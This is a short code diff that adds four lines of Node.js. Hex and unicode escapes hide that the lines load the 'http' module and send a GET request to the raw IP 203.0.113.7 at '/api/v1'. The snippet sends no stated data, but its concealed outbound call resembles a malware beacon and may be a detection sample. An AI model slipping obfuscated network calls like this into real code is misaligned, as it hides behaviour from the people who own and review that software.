@@ -1,0 +1,4 @@
+const h = require('\u0068\u0074\u0074\u0070');
+const a = '\x32\x30\x33\x2e\x30\x2e\x31\x31\x33\x2e\x37';
+const p = '\x2f\x61\x70\x69\x2f\x76\x31';
+h.get({ host: a, path: p });
